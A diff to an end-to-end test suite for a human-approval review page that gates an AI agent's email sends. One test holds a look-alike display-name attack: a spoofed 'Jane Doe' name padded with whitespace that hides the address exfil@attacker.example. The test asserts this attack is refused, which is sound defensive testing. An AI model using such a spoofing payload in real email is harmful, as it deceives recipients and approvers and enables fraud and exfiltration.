@@ -1,8 +1,9 @@
 // The whole flow in a real browser: a confirmed tool raised through the gateway appears on the approval
-// service's review page; a person accepts (one write), declines (none) or lets it expire (none).
+// service's review page; a person accepts (one write), declines (none) or lets it expire (none); what the card
+// shows of a send is, character for character, what the Gmail fake receives (issue 13 #3).
 import { mkdirSync } from "node:fs";
 import { join } from "node:path";
-import { type Browser, chromium, type Page } from "playwright-core";
+import { type Browser, chromium, type Locator, type Page } from "playwright-core";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { listPrompts, mintSession } from "../../approvals/dev-api.mjs";
 import { bearer, connectLegacy, connectModern, FAKES, nothingMore, ROOT, recorder, TOKENS, textOf } from "./helpers";
@@ -34,6 +35,23 @@ async function raise(slug: string, note: string, elicitationUrl: string) {
   const result = client.callTool("demo_write", { note }).finally(() => client.close());
   return result;
 }
+
+/** The card's caller values as [label, value] pairs, in order, exactly as the page shows them. */
+async function valuePairs(card: Locator): Promise<[string, string][]> {
+  const labels = await card.getByTestId("prompt-value-label").allTextContents();
+  const values = await card.getByTestId("prompt-value").allTextContents();
+  return labels.map((label, i) => [label, values[i] ?? ""]);
+}
+
+interface OutboxMessage {
+  id: string;
+  subject: string;
+  to: string[];
+  cc: string[];
+  bcc: string[];
+  attachments: { filename: string }[];
+}
+const outbox = async () => (await (await fetch(`${FAKES}/gmail/_fake/outbox`)).json()) as OutboxMessage[];
 
 const writesOf = async (note: string) => (await recorder.events()).filter((e) => e.kind === "demo_write" && e.note === note);
 
@@ -111,8 +129,12 @@ describe("the review page", () => {
     await card.waitFor({ timeout: 15_000 });
     const message = await card.getByTestId("prompt-message").innerText();
     expect(message).toContain("gmail-rw-external: This will send an email from person@example.com");
-    expect(message).toContain("To: ada@example.com");
-    expect(message).toContain(`Subject: ${subject}`);
+    // Each caller value sits in its own labelled, boxed cell (docs/rules.md R-PROMPT-12).
+    expect(await valuePairs(card)).toEqual([
+      ["To:", "ada@example.com"],
+      ["Cc:", "bob@example.com"],
+      ["Subject:", subject],
+    ]);
     // The body is the caller's free text and is never shown.
     expect(message).not.toContain("Hello from the review page test.");
     await page.screenshot({ path: join(SHOTS, "review-send-email.png"), fullPage: true });
@@ -123,6 +145,81 @@ describe("the review page", () => {
     const outbox = ((await (await fetch(`${FAKES}/gmail/_fake/outbox`)).json()) as { subject: string; to: string[]; cc: string[] }[]).filter((m) => m.subject === subject);
     expect(outbox).toHaveLength(1);
     expect(outbox[0]).toMatchObject({ to: ["ada@example.com"], cc: ["bob@example.com"] });
+    await page.close();
+  });
+
+  it("issue 13 #3: a send whose display name is the look-alike attack is refused before any prompt, and nothing is sent", async () => {
+    const session = await mintSession();
+    const subject = `Look-alike ${Date.now()}`;
+    const page = await openReview(session.reviewUrl);
+    const attack = `"Jane Doe ‹jane.doe@company.example›${" ".repeat(170)}…" <exfil@attacker.example>`;
+    const client = await connectModern("gmail-rw-external", { ...bearer(TOKENS.session), "x-elicitation-url": session.elicitationUrl });
+    const result = await client.callTool("send_email", { to: [attack], subject, text: "Pay the invoice." }).finally(() => client.close());
+    expect(result.isError).toBe(true);
+    expect(textOf(result)).toMatch(/^Not done: the display name given for exfil@attacker\.example contains @, < or > or a character that looks like one/);
+    // The name is never shown, not even in the refusal.
+    expect(textOf(result)).not.toContain("jane.doe@company.example");
+    await nothingMore();
+    expect(await listPrompts(session.sessionId)).toEqual([]);
+    expect(await page.getByTestId("prompt").count()).toBe(0);
+    await expect.poll(async () => page.getByTestId("empty-state").isVisible()).toBe(true);
+    await page.screenshot({ path: join(SHOTS, "review-lookalike-refused.png"), fullPage: true });
+    expect((await outbox()).filter((m) => m.subject === subject || m.to.includes("exfil@attacker.example"))).toEqual([]);
+    await page.close();
+  });
+
+  it("issue 13 #3: the recipients, attachment names and subject on the card are, character for character, what the Gmail fake receives", async () => {
+    const session = await mintSession();
+    const subject = `Contract — final version ${Date.now()}`;
+    const page = await openReview(session.reviewUrl, 390, 844);
+    const args = {
+      to: ["Ada Lovelace <ada@example.com>", "Grace Hopper <grace.hopper@navy.example.com>"],
+      cc: ['"Lovelace, Byron" <byron@example.com>'],
+      subject,
+      text: "The signed copy and the annex are attached.",
+      attachments: [
+        { filename: "contract-final.pdf", content_base64: btoa("%PDF-1.4 contract") },
+        { filename: "annex A.txt", content_base64: btoa("annex") },
+      ],
+    };
+    const client = await connectModern("gmail-rw-external", { ...bearer(TOKENS.session), "x-elicitation-url": session.elicitationUrl });
+    const call = client.callTool("send_email", args).finally(() => client.close());
+    const card = page.getByTestId("prompt").first();
+    await card.getByTestId("prompt-values").waitFor({ timeout: 15_000 });
+    const pairs = await valuePairs(card);
+    await page.screenshot({ path: join(SHOTS, "review-send-exact.png"), fullPage: true });
+    expect(pairs).toEqual([
+      ["To:", "ada@example.com (name: Ada Lovelace)"],
+      ["To:", "grace.hopper@navy.example.com (name: Grace Hopper)"],
+      ["Cc:", "byron@example.com (name: Lovelace, Byron)"],
+      ["Subject:", subject],
+      ["Attachment:", "contract-final.pdf (17 B)"],
+      ["Attachment:", "annex A.txt (5 B)"],
+    ]);
+    // The body is not a value the call's card shows, and the card shows no value the call does not carry.
+    expect(await card.getByTestId("prompt-message").innerText()).not.toContain("signed copy");
+    await card.getByTestId("prompt-confirm").check();
+    await card.getByTestId("prompt-accept").click();
+    const result = await call;
+    expect(result.isError, textOf(result)).not.toBe(true);
+
+    const [sent, ...more] = (await outbox()).filter((m) => m.subject === subject);
+    expect(more).toEqual([]);
+    if (sent === undefined) throw new Error("the Gmail fake received no message with the approved subject");
+    // Addresses and names as shown, against what arrived: the address first, then the name.
+    const shownAddresses = (label: string) => pairs.filter(([l]) => l === label).map(([, v]) => v.split(" (name: ")[0]);
+    expect(sent.to).toEqual(shownAddresses("To:"));
+    expect(sent.cc).toEqual(shownAddresses("Cc:"));
+    expect(sent.bcc).toEqual([]);
+    expect(sent.subject).toBe(pairs.find(([l]) => l === "Subject:")?.[1]);
+    expect(sent.attachments.map((a) => a.filename)).toEqual(pairs.filter(([l]) => l === "Attachment:").map(([, v]) => v.replace(/ \(\d+ B\)$/, "")));
+    // The names as Gmail holds the sent message, read back through the same mount.
+    const reader = await connectModern("gmail-rw-external", bearer(TOKENS.session));
+    const read = await reader.callTool("get_message", { message_id: sent.id }).finally(() => reader.close());
+    const headers = JSON.parse(textOf(read)) as { to: string; cc: string };
+    const named = (header: string) => [...header.matchAll(/"((?:[^"\\]|\\.)*)" <([^>]+)>/g)].map((m) => `${m[2]} (name: ${(m[1] as string).replace(/\\(.)/g, "$1")})`);
+    expect(named(headers.to)).toEqual(pairs.filter(([l]) => l === "To:").map(([, v]) => v));
+    expect(named(headers.cc)).toEqual(pairs.filter(([l]) => l === "Cc:").map(([, v]) => v));
     await page.close();
   });
 });
